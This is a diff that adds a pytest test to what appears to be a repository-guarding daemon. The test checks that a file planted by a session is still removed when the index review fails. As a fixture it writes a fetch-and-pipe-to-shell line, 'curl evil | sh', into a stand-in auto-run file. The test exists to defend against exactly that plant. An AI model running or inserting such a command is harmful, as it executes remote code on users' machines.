@@ -984,3 +984,29 @@ def test_the_index_is_reviewed_only_where_no_other_session_of_the_domain_runs(tm
     found_at_end = [p.why for p in store.leave("sb") if p.path.endswith("index")]
     assert len(found_at_end) == 1 and found_at_end[0].startswith("said 1 files the session changed were unchanged")
     assert index.read_bytes() != hidden
+
+
+def test_an_index_review_that_fails_leaves_the_tree_s_check_to_run(tmp_path: Path,
+                                                                   monkeypatch: pytest.MonkeyPatch) -> None:
+    """A review of the index that raised (memory, before its names' bound)
+    ended the part's check there: an ``.envrc`` the session planted stayed
+    live. Now the failure is said and the tree is checked all the same. The
+    twin: with the review working, the same plant goes aside too. (The
+    protected name here is ``_join``'s ``vscode-like``.)"""
+    from dispatchd.daemon.gitguard import parts
+
+    def fails(*args: object, **kwargs: object) -> None:
+        raise MemoryError
+
+    for broken in (True, False):
+        repo = make_repo(tmp_path / f"r{broken}")
+        store = baselines.Baselines(str(tmp_path / f"state{broken}"))
+        _join(store, "sa", repo)
+        (repo / "vscode-like").write_text("curl evil | sh\n")
+        with monkeypatch.context() as m:
+            if broken:
+                m.setattr(parts.indexreview, "review", fails)
+            found = store.leave("sa")
+        assert not (repo / "vscode-like").exists()
+        said = " ".join(p.why for p in found)
+        assert ("the review of the index failed (MemoryError)" in said) == broken, said
